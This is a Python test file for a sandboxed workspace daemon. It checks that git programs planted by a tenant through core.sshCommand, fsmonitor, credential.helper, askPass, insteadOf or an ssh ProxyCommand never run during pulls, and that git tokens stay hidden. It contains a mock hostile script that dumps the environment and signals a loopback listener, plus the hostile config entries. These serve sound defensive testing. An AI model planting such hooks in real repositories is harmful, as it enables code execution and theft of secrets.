"""I3: the tenant's git configuration never meets the network, and git tokens never meet it.

Attacks are written as a tenant would, through the public API with a token scoped to its own
workspace (and, for /git, an orchestrator acting on the tenant's repository): an earlier step
plants programs in the task's global git config, in a repository's .git/config or in
~/.ssh/config; a later git operation must run none of them, and the workspace's git token
must appear nowhere the tenant can look. The rest checks that clone, pull, fetch and push
still work through the daemon's mirror (real git, real bubblewrap, real servers).
"""

from __future__ import annotations

import os
import socket
import subprocess
import threading
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.conftest import INTERNAL_TOKEN, git_repo, wait_for
from wsrunner.daemon import Daemon

WS = "ws-git"
SECRET = "ghp_I3SECRET_" + "7" * 24
#: Everything allowed, protect off, and the daemon's git on the host's network: the most a
#: tenant can hope for (what the old default was), so that nothing but the mirror stands
#: between its git configuration and the network.
POLICY = """\
apiVersion: wsrunner/v1
kind: Policy
metadata: {name: git-remote}
spec:
  sandbox: {require: full, network: none, gitNetwork: host, protect: []}
  limits: {memory: 512MiB, pids: 128, timeoutSeconds: 120}
  rules:
    - {id: anything, action: allow, commands: ["*"]}
"""
#: The tenant's program: leaves a marker and its environment in the workspace, tells a
#: listener on the host's loopback, then fails (so that git gives up).
EVIL = """#!/bin/sh
d="$(dirname "$0")/.."
touch "$d/pwned-$1"
env > "$d/env-$1"
python3 -c 'import socket, sys
s = socket.create_connection(("127.0.0.1", {port}), 2)
s.sendall(("pwned-" + sys.argv[1]).encode())' "$1" 2>/dev/null
exit 1
"""
GIT_ENV = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@t", GIT_COMMITTER_NAME="t",
               GIT_COMMITTER_EMAIL="t@t")  # fmt: skip


class Listener:
    """A TCP listener on the host's 127.0.0.1 that records what every connection sends."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    self.received.append(conn.recv(4096))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self.sock.close()


@dataclass
class Tenant:
    daemon: Daemon
    token: str  #: public API token scoped to WS
    tmp: Path
    listener: Listener
    tasks: list[dict[str, Any]] = field(default_factory=list)  #: every record seen, as JSON
    events: list[str] = field(default_factory=list)

    @property
    def root(self) -> Path:
        return self.daemon.settings.volume_path / WS

    def public(self) -> httpx.AsyncClient:
        return httpx.AsyncClient(base_url=self.daemon.urls[0], timeout=60,
                                 headers={"Authorization": f"Bearer {self.token}"})  # fmt: skip

    def internal(self) -> httpx.AsyncClient:
        return httpx.AsyncClient(base_url=self.daemon.urls[1], timeout=60,
                                 headers={"X-Internal-Token": INTERNAL_TOKEN})  # fmt: skip

    async def submit(self, *steps: dict[str, Any]) -> list[dict[str, Any]]:
        """Run a task through the public API; the results of its steps."""
        async with self.public() as c:
            r = await c.post("/api/tasks/submit", json={"workspace_id": WS, "steps": list(steps)})
            assert r.status_code == 202, r.text
            tid = r.json()["task_id"]

            async def ended() -> dict[str, Any] | None:
                body: dict[str, Any] = (await c.get(f"/api/tasks/{tid}")).json()
                return body if body["status"] not in ("queued", "running") else None

            record = await wait_for(ended, timeout=120, poll=0.05)
            self.events.append((await c.get(f"/api/tasks/{tid}/events")).text)
        self.tasks.append(record)
        return [s["result"] for s in record["result"]["result"]["steps"]]

    async def git(self, operation: str, cwd: str, args: Any = None) -> dict[str, Any]:
        """The internal API's /git, as an orchestrator calls it on the tenant's workspace."""
        async with self.internal() as c:
            r = await c.post(f"/workspaces/{WS}/git",
                             json={"operation": operation, "cwd": cwd, "args": args})  # fmt: skip
        assert r.status_code == 200, r.text
        body: dict[str, Any] = r.json()
        self.tasks.append(body)
        return body

    async def tool(self, operation: str, cwd: str, args: Any = None) -> dict[str, Any]:
        """The tools API's workspace_git, as an agent holding the scoped token calls it."""
        arguments = {"operation": operation, "cwd": cwd} | ({"args": args} if args else {})
        async with self.public() as c:
            r = await c.post("/api/tools/call", json={"workspace_id": WS, "tool": "workspace_git",
                                                      "arguments": arguments})  # fmt: skip
        assert r.status_code == 200, r.text
        body: dict[str, Any] = r.json()["result"]
        self.tasks.append(body)
        return body

    def evil(self) -> dict[str, Any]:
        """The write_file step that puts the tenant's program at bin/evil.sh."""
        return {"action": "write_file", "path": "bin/evil.sh",
                "content": EVIL.replace("{port}", str(self.listener.port))}  # fmt: skip

    def traces(self) -> list[str]:
        """Every sign that a program of the tenant's ran: markers and environment dumps
        anywhere under the test's directory (the volume and the daemon's mirrors), bytes
        that reached the host's listener."""
        found = [str(p) for p in self.tmp.rglob("pwned-*")]
        found += [str(p) for p in self.tmp.rglob("env-*")]
        found += [f"listener got {data!r}" for data in self.listener.received if b"pwned" in data]
        return found


@pytest.fixture(name="tenant")
async def _tenant(start_daemon: Callable[..., Any], tmp_path: Path) -> AsyncIterator[Tenant]:
    etc = tmp_path / "etc"
    (etc / "policy.d").mkdir(parents=True)
    (etc / "policy.yaml").write_text(POLICY)
    creds = tmp_path / "git-credentials.yaml"
    creds.write_text("{}\n")
    creds.chmod(0o600)
    daemon: Daemon = await start_daemon(
        frontend="frontend", public_host="127.0.0.1", public_port=0, health_port=0,
        internal_token=INTERNAL_TOKEN, policy_file=etc / "policy.yaml",
        git_schemes=("https", "http", "ssh", "git", "file"), git_credentials_file=creds,
    )  # fmt: skip
    _, token = await daemon.service.tokens.create("tenant", [WS])
    listener = Listener()
    try:
        yield Tenant(daemon, token, tmp_path, listener)
    finally:
        listener.close()


def origin_repo(tmp: Path, name: str) -> tuple[Path, str]:
    path = tmp / "origins" / name
    path.mkdir(parents=True)
    return path, git_repo(path, {"README": "v1\n"}, "v1")


def advance(origin: Path, text: str) -> None:
    (origin / "README").write_text(text)
    subprocess.run(["git", "-C", str(origin), "commit", "-qam", text.strip()], check=True,
                   env=GIT_ENV)  # fmt: skip


def sh(command: str) -> dict[str, Any]:
    return {"action": "execute_command", "command": command}


def plant(repo: str, entries: dict[str, str]) -> str:
    """A command that sets `entries` in repos/<repo>/.git/config; values may use $E, the
    tenant's program."""
    return " && ".join(f'git -C repos/{repo} config "{k}" "{v}"' for k, v in entries.items())


def tenant_repo(name: str, url: str) -> str:
    """A command making repos/<name>: one commit on main, tracking origin's main at `url`."""
    return (f"git init -q -b main repos/{name} && git -C repos/{name} commit -q --allow-empty "
            f"-m mine && git -C repos/{name} remote add origin {url} && "
            f"git -C repos/{name} config branch.main.remote origin && "
            f"git -C repos/{name} config branch.main.merge refs/heads/main")  # fmt: skip


NOWHERE = "ssh://git@127.0.0.1:1/x.git"  #: nothing listens: only a tenant's ssh "works"
SETUP = 'chmod +x bin/evil.sh && E="$PWD/bin/evil.sh"'
#: A file:// origin turned into ssh (insteadOf) with the tenant's ssh, and more programs.
INSTEADOF = {"url.ssh://git@127.0.0.1:1/.insteadOf": "file://", "core.sshCommand": "$E ssh-insteadof",
             "core.fsmonitor": "$E fsmonitor", "credential.helper": "!$E credential-helper",
             "core.askPass": "$E askpass"}  # fmt: skip


# --- (a) planted configuration, then a git_pull step --------------------------------------------


async def test_planted_git_config_never_runs_for_git_pull(tenant: Tenant) -> None:
    origin, url = origin_repo(tenant.tmp, "proj")
    assert "error" not in (await tenant.submit({"action": "git_clone", "repo": url,
                                                "shallow": False}))[0]  # fmt: skip
    advance(origin, "v2\n")
    # One task: the global config only lives as long as the task.
    results = await tenant.submit(
        tenant.evil(),
        sh(f"{SETUP} && git config --global core.sshCommand \"$E ssh-global\" && "
           f"{tenant_repo('y1', NOWHERE)} && {tenant_repo('y2', NOWHERE)} && "
           + plant("y2", {"core.sshCommand": "$E ssh-repo"}) + " && "
           + plant("proj", INSTEADOF)),
        {"action": "git_pull", "repo_name": "y1"},
        {"action": "git_pull", "repo_name": "y2"},
        {"action": "git_pull", "repo_name": "proj"},
    )  # fmt: skip
    assert "error" not in results[1], results[1]
    assert not tenant.traces(), (tenant.traces(), results)
    # The pull through the mirror still works, with all of that in the repository's config.
    assert "error" not in results[4], results[4]
    assert (tenant.root / "repos" / "proj" / "README").read_text() == "v2\n"
    # ~/.ssh/config (ProxyCommand) of another task, then a pull of an ssh origin.
    results = await tenant.submit(
        tenant.evil(),
        sh(f"{SETUP} && mkdir -p ~/.ssh && printf 'Host *\\n  ProxyCommand %s proxy\\n' "
           "\"$E\" > ~/.ssh/config"),
        {"action": "git_pull", "repo_name": "y1"},
    )  # fmt: skip
    assert "error" not in results[1], results[1]
    assert not tenant.traces(), (tenant.traces(), results)
    # The daemon's git did go to the network for these: its own ssh, refused at port 1.
    assert "127.0.0.1" in results[2]["stderr"] and "refused" in results[2]["stderr"], results[2]
